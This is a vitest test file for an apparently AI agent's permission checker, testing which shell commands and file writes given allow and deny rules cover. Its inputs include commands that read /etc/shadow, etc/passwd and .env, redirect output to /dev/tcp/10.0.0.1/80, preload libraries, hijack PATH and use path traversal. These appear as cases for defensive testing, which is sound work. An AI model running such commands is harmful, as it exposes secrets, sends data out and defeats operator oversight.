import { describe, expect, it } from "vitest";
import { explain, verdict } from "../../support/policy-fakes";

function allowing(rules: readonly string[], command: string): Promise<string> {
  return verdict(command, { settings: { permissions: { allow: rules } } });
}

describe("an allow rule about commands", () => {
  it.each([
    ["Bash(npm run *)", "npm run"],
    ["Bash(npm run:*)", "npm run test --watch"],
    ["Bash(npm run test*)", "npm run test:unit"],
    ["Bash(rm build/*)", "rm build/x"],
    ["Bash(npm run *)", 'npm run "$NAME"'],
    ["Bash(npm run *)", "nohup timeout 5 npm run test"],
    ["Bash(FOO=1 make)", "FOO=1 make"],
    ["Bash(make)", "cd src && make"],
    ["Bash(make)", "make && cat README.md"],
    ["Bash(make)", "make < README.md"],
    ["Bash(make)", "make 2>/dev/null"],
    ["Bash(git * main)", "git push origin main"],
    ["Bash", "make; rm x"],
    ["Bash(*)", "make"],
    ["Bash(echo \\*)", "echo '*'"],
    ["Bash(npm run *)", "npm run $NAME"],
    ["Bash(npm run *)", 'npm run "${SCRIPTS[@]}"'],
    ["Bash(npm run *)", "npm run ${NAME:-test} -- $(git rev-parse HEAD)"],
    ["Bash(npm run *)", "for s in build test; do npm run $s; done"],
    ["Bash(make *)", "make -j$(nproc)"],
    ["Bash(echo *)", "echo $V"],
    ["Bash(make)", "set -e; make"],
    ["Bash(make)", "set -euo pipefail\nmake"],
    ["Bash(make)", "RUST_LOG=app::db=debug,info DEBUG=app:* make"],
    ["Bash", "make > out"],
    ["Bash", "make | tee out > copy 2>&1"],
  ])("%s covers %s", async (rule, command) => {
    expect(await allowing([rule], command)).toBe("allow");
  });

  it.each([
    ["Bash(npm run test*)", "npm run test x"],
    ["Bash(rm build/*)", "rm build/x /etc/y"],
    ["Bash(rm build/*)", "rm build/../src"],
    ["Bash(rm build/*)", "rm build/.[.]/src/app.ts"],
    ["Bash(rm build/*)", "rm build/.?/src/app.ts"],
    ["Bash(git * main)", "git main"],
    ["Bash(npm run *)", "/tmp/npm run x"],
    ["Bash(npm run *)", "./npm run x"],
    ["Bash(npm run *)", "npmx run x"],
    ["Bash(make)", "FOO=1 make"],
    ["Bash(make)", "PATH=.; make"],
    ["Bash(make)", "export PATH=.; make"],
    ["Bash(make)", "cd / && make"],
    ["Bash(make)", "cd .. && cat secret && make"],
    ["Bash(make)", "make < /etc/shadow"],
    ["Bash(make)", "make > out"],
    ["Bash(make)", "make >& out"],
    ["Bash(make)", "make 2> $OUT"],
    ["Bash(make)", "make > /dev/tcp/10.0.0.1/80"],
    ["Bash(make)", "make 'unterminated"],
    ["Bash", "make 'unterminated"],
    ["Bash", "$COMMAND"],
    ["Bash(make *)", `make ${"x".repeat(10_000)}`],
    ["Bash(cd *)", "cd / && cat etc/passwd"],
    ["Bash(npm run test)", "npm run test $X"],
    ["Bash(npm run test*)", "npm run test$X"],
    ["Bash(git * main)", "git $X main"],
    ["Bash(git * main)", "git push main $X"],
    ["Bash(rm build/*)", "rm build/$X"],
    ["Bash(echo *)", "$V x"],
    ["Bash(echo *)", 'echo "$(touch x)"'],
    ["Bash(echo *)", "echo $(touch x)"],
    ["Bash(echo *)", "echo ${V@P}"],
    ["Bash(echo *)", "echo ${V:=x}"],
    ["Bash(echo *)", "echo ${!V}"],
    ["Bash(echo *)", "echo ${V[$X]}"],
    ["Bash(echo *)", "echo $((V + 1))"],
    ["Bash(echo *)", "echo {$V,x}"],
    ["Bash(echo *)", "echo $V > out.txt"],
    ["Bash(echo *)", "for PATH in .; do echo $PATH; done"],
    ["Bash(echo *)", "for i in 1 2; do echo $i; touch $i; done"],
    ["Bash(make)", "set -e -- x; make"],
    ["Bash(make)", "set -o posix; make"],
    ["Bash(make)", "DEBUG+=1 make"],
    ["Bash(DEBUG=1 make)", "DEBUG+=/x make"],
    ["Bash(make)", "DEBUG=$X make"],
    ["Bash(make)", "RUST_LOG=../x make"],
    ["Bash", "make > ../out"],
    ["Bash", "make > $OUT"],
    ["Bash", "make > .git/config"],
    ["Bash", "cd src && make > out"],
  ])("%s does not cover %s", async (rule, command) => {
    expect(await allowing([rule], command)).toBe("ask");
  });

  it.each(["Bash", "Bash(*)", "Bash(:*)", "shell"])(
    "%s alone covers all that nothing else holds back",
    async (rule) => {
      for (const command of [
        "echo $Q",
        "for i in 1 2; do echo $i; touch $i; done",
        "FOO=1 npm test",
        "LD_PRELOAD=./x.so ls",
        "X=$(make) && rm $X",
        "make -j$((N + 1)) ${X@Q} > out.log 2>&1",
        "cat <<E\n$((X + 1))\nE",
      ])
        expect([command, await allowing([rule], command)]).toEqual([command, "allow"]);
    },
  );

  it.each(["git $X", "git $X main", "for c in push pull; do git $c; done", "git $(cat x)"])(
    "leaves it to a rule that denies what a variable may hold: %s",
    async (command) => {
      const permissions = { allow: ["Bash"], deny: ["Bash(git push *)"] };
      expect(await verdict(command, { settings: { permissions } })).not.toBe("allow");
    },
  );

  it.each([
    "cat $X",
    "for f in .env a; do cat $f; done",
    "cat $F; F=a",
    "read F < b; cat x/$F; F=a",
    "head -1 $(echo x)",
  ])("leaves it to a rule about files that a variable may name: %s", async (command) => {
    const permissions = { allow: ["Bash(cat *)", "Bash(head *)"], deny: ["Read(.env)"] };
    expect(await verdict(command, { settings: { permissions } })).not.toBe("allow");
  });

  it("compares the names that a loop spells out with rules about reading, and asks where one is about writing", async () => {
    const loop = "for p in a b; do cargo test -p $p; done";
    const judge = (command: string, deny: string) =>
      verdict(command, {
        settings: { permissions: { allow: ["Bash(cargo *)", "Bash(touch *)"], deny: [deny] } },
      });
    expect(await judge(loop, "Read(.env)")).toBe("allow");
    expect(await judge(loop.replace("a b", "a .env"), "Read(.env)")).toBe("ask");
    expect(await judge(loop.replace("a b", "a $X"), "Read(.env)")).toBe("ask");
    expect(await judge(loop.replace("a b", "'a .env'"), "Read(.env)")).not.toBe("allow");
    expect(await judge(loop.replace("do", "do p+=x;"), "Read(.env)")).toBe("ask");
    expect(await judge("for f in db/1.sql; do touch $f; done", "Edit(db/**)")).not.toBe("allow");
  });

  it("lets a redirect write what a write rule allows, and only from where that is known", async () => {
    expect(await allowing(["Bash(make)", "Write(out/**)"], "make > out/log")).toBe("allow");
    expect(await allowing(["Bash(make)", "Edit(out/**)"], "make >> out/log")).toBe("allow");
    expect(await allowing(["Bash(make)", "Write(out/**)"], "make > out/../x")).toBe("ask");
    expect(await allowing(["Bash(make)", "Write(out/**)"], "cd src && make > out/log")).toBe("ask");
  });

  it("does not take along what the mode asks about on its own", async () => {
    const bubble = { mode: "bubble", settings: { permissions: { allow: ["Bash(make)"] } } };
    expect(await verdict("make", bubble)).toBe("allow");
    expect(await verdict("ls; make", bubble)).toBe("ask");
  });

  it("doesn't cover a shell call without a command", async () => {
    const { merged } = await explain(
      "shell",
      { command: 5 },
      { settings: { permissions: { allow: ["Bash", "*"] } } },
    );
    expect(merged.behavior).toBe("ask");
  });
});

describe("an allow rule about files", () => {
  const write = async (rules: readonly string[], path: string, links: Record<string, string> = {}) => {
    const settings = { permissions: { allow: rules } };
    return (await explain("write_file", { path, content: "" }, { settings, disk: { links } })).merged
      .behavior;
  };

  it("covers what it names, by the name and by what is behind it", async () => {
    expect(await write(["Write(src/**)"], "src/a.ts")).toBe("allow");
    expect(await write(["Edit(src/**)"], "src/a.ts")).toBe("allow");
    expect(await write(["Write(src/**)"], "lib/a.ts")).toBe("ask");
    expect(await write(["Write(src/**)"], "src/link/a", { "/w/src/link": "/w/lib" })).toBe("ask");
    expect(await write(["Write(src/**)"], "link/a", { "/w/link": "/w/src" })).toBe("ask");
    expect(await write(["Write(link/**)"], "link/a", { "/w/link": "/w/src" })).toBe("ask");
    expect(await write(["Write({src,link}/**)"], "link/a", { "/w/link": "/w/src" })).toBe("allow");
  });

  it("takes a name without a slash for one place, and a tool's name for that tool", async () => {
    expect(await write(["Write(a.ts)"], "a.ts")).toBe("allow");
    expect(await write(["Write(a.ts)"], "src/a.ts")).toBe("ask");
    expect(await write(["write_file"], "src/a.ts")).toBe("allow");
    expect(await write(["Edit"], "src/a.ts")).toBe("ask");
    expect(await write(["*"], "src/a.ts")).toBe("allow");
  });
});
